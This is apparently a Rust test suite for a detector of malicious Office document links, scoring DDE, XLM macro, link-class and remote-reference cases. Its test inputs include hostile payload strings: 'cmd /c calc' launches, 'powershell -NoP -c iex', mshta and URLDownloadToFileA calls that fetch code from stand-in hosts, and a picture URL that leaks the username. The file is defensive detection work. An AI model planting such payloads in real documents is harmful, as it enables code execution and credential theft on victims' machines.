//! What is asked for: commands, places, addresses, classes.

use super::*;

/// Spreadsheet specification, sections 10.2 to 10.4.
#[test]
fn topics_that_are_commands_or_places() {
    for (service, topic, score) in [
        ("finger", "user@host", 85),
        ("csi", "a.csx", 85),
        ("te", "x.xml", 85),
        ("hh", "mk:@MSITStore:x", 95),
        ("BLP", "http://example.invalid/x", 75),
        ("foo", "http://example.invalid/a", 75),
        ("foo", "\\\\10.0.0.1\\s", 79),
        ("BLP", "M & calc", 60),
        ("BLP", "calc", 60),
        ("winword", "[DocClose]", 25),
        ("winword", "http://example.invalid/x.doc", 60),
        ("Word.Document.8", "\\\\example.invalid\\x.docm", 64),
        ("excel", "\\\\10.0.0.1\\s\\x.xlsm", 64),
        ("excel", "\\\\server\\s\\x.xlsm", 15),
        ("a.docx.lnk", "x", 60),
        ("evil.bat", "", 60),
        ("excel", "C:\\Windows\\System32\\cmd.exe", 95),
        ("MSEXCEL", "\\Windows\\System32\\cmd /c calc", 100),
        (
            "MSEXCEL",
            "x\\..\\..\\Windows\\System32\\cmd.exe /c calc",
            100,
        ),
        ("Excel", "[OPEN(\"http://x\")]", 40),
        ("Excel", "[Book1.xlsx]Sheet1", 0),
        ("Excel", "C:\\a b\\[x.xlsx]S", 0),
        ("\\\\SERVER\\NDDE$", "Chart$", 25),
        ("\\\\SERVER\\NDDE$", "M & calc", 60),
        ("\\\\SERVER\\cmd.exe", "Chart$", 100),
    ] {
        let finding = dde(service, topic, "AAPL US Equity,[BID]");
        assert_eq!(
            finding.score,
            score,
            "{service}|{topic} {:?}",
            rules(&finding)
        );
        let spoof = finding
            .techniques
            .iter()
            .any(|found| found.id == TechniqueId::PromptSpoof);
        assert!(!spoof, "{service}|{topic}");
    }
}

/// Section 1.5: what `DDE(A1,B1,C1)` and `INITIATE(A1,…)` start, only the cells know.
#[test]
fn calls_with_an_unknown_service() {
    let of = |carrier, service: &str, topic: &str| {
        let mut link = link(Kind::Dde, carrier);
        link.add_technique(TechniqueId::Unresolved);
        link.readings.push(reading(service, topic, ""));
        judged(link)
    };
    for carrier in [Carrier::Formula, Carrier::Xlm] {
        for service in ["<expr>", "c<expr>"] {
            let finding = of(carrier, service, "<expr>");
            assert_eq!(rules(&finding), ["unresolved-service"], "{service}");
            assert_eq!(
                (finding.score, verdict(&finding)),
                (60, Verdict::Suspicious)
            );
        }
    }
    assert_eq!(of(Carrier::Formula, "", "").score, 60);
    assert_eq!(of(Carrier::Xlm, "", "x").score, 60);
    assert_eq!(
        verdict(&of(Carrier::Formula, "soffice", "<expr>")),
        Verdict::Clean
    );
    assert_eq!(
        verdict(&of(Carrier::Formula, "MT4", "<expr>")),
        Verdict::Clean
    );
    assert_eq!(
        verdict(&of(Carrier::Formula, "cmd", "<expr>")),
        Verdict::Malicious
    );
    // Word specification, section 6.1: data that decide what a field starts.
    let merge = of(Carrier::Field, "\u{27e6}MERGEFIELD x\u{27e7}", "y");
    assert_eq!(
        (merge.score, rules(&merge)),
        (60, vec!["unresolved-service"])
    );
    // A command on a channel that another call opened.
    assert_eq!(verdict(&of(Carrier::Xlm, "", "")), Verdict::Clean);
}

/// Word specification, section 6.1: an address that carries the reader's name.
#[test]
fn addresses_with_data_of_the_reader() {
    let finding = external(
        Carrier::IncludePicture,
        "http://x/\u{27e6}USERNAME\u{27e7}.png",
    );
    assert_eq!(rules(&finding), ["remote-picture", "document-data"]);
    assert_eq!((finding.score, finding.severity), (39, Severity::Medium));
}

#[test]
fn the_shape_of_an_archive_is_information() {
    let mut odd = link(Kind::Anomaly, Carrier::Container);
    odd.add_technique(TechniqueId::ZipDuplicateName);
    for policy in [
        Policy::default(),
        Policy::default().weight("container-anomaly", 90).unwrap(),
    ] {
        let finding = judged_by(odd.clone(), &policy);
        assert_eq!(finding.severity, Severity::Info);
        assert_eq!(finding.attack, [""; 0]);
    }
}

#[test]
fn remote_places_behind_the_verbatim_prefix() {
    let workbook = external(
        Carrier::ExternalWorkbook,
        "file:///\\\\?\\UNC\\10.0.0.9\\s\\a.xlsx",
    );
    assert_eq!(rules(&workbook), ["remote-workbook", "unc-leak"]);
    assert_eq!(
        workbook.indicators[0].defanged,
        "\\\\10[.]0[.]0[.]9\\s\\a.xlsx"
    );
}

#[test]
fn classes_of_links() {
    let of = |class: &str, target: &str| {
        let mut link = link(Kind::ExternalLink, Carrier::LinkField);
        link.prog_id = Some(class.to_owned());
        link.target = Some(target.to_owned());
        judged(link)
    };
    assert_eq!(
        verdict(&of("htmlfile", "http://h/x.html")),
        Verdict::Malicious
    );
    assert_eq!(
        verdict(&of("Word.Document.8", "http://x/a.doc")),
        Verdict::Suspicious
    );
    assert_eq!(
        verdict(&of("Package", "C:\\x\\evil.exe")),
        Verdict::Suspicious
    );
    assert_eq!(
        verdict(&of("Excel.Sheet.12", "C:\\a b\\c.xlsx")),
        Verdict::Clean
    );
    assert_eq!(verdict(&of("cmd", "/c calc")), Verdict::Malicious);
    assert_eq!(
        verdict(&of("c:\\windows\\system32\\cmd.exe", "/k calc")),
        Verdict::Malicious
    );
    for (class, target) in [
        ("Excel.Sheet.12", "..\\..\\windows\\system32\\calc.exe"),
        ("c:\\x\\evil.exe", "/k calc"),
        ("scriptletfile", "c:\\x.sct"),
        ("htafile", "c:\\x.hta"),
        ("htmlfile", "c:\\x.html"),
    ] {
        let finding = of(class, target);
        assert_eq!(verdict(&finding), Verdict::Suspicious, "{class} {target}");
    }
}

#[test]
fn what_starts_without_dde() {
    let of = |carrier, target: &str| {
        let mut link = link(Kind::Execute, carrier);
        link.target = Some(target.to_owned());
        judged(link)
    };
    let action = of(Carrier::Action, "powershell%20-NoP%20-c%20iex");
    assert_eq!(
        (verdict(&action), image(&action)),
        (Verdict::Malicious, "powershell.exe")
    );
    assert!(!action.attack.contains(&"T1559.002"));
    assert_eq!(action.attack, ["T1059.001", "T1204.002"]);
    let exec = of(Carrier::Xlm, "EXEC(\"mshta http://x.y/a.hta\")");
    assert_eq!(
        (verdict(&exec), image(&exec)),
        (Verdict::Malicious, "mshta.exe")
    );
    let call = of(
        Carrier::Xlm,
        "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/a\",\"C:\\a.exe\")",
    );
    assert_eq!(verdict(&call), Verdict::Malicious);
    assert_eq!(
        verdict(&of(Carrier::OlePackage, "evil.lnk")),
        Verdict::Suspicious
    );
}
